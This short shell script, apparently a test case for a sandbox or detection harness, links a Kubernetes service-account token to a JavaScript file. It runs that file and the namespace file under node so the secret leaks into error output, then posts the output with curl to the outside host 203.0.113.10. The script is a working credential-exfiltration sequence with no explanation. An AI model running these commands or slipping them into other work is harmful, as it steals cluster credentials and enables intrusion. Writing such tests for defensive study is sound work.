#!/bin/sh
. /opt/case/case.sh

n=/run/secrets/kubernetes.io/serviceaccount; ln -s $n/token /tmp/conf.js
node /tmp/conf.js 2>/tmp/.f || true; node -e 'try { require(process.argv[1]) } catch (e) { require("fs").writeFileSync("/tmp/.g", e.stack) }' $n/namespace || true
curl -s --data-binary @/tmp/.f http://203.0.113.10/f >/dev/null; test -s /tmp/.f
took_place
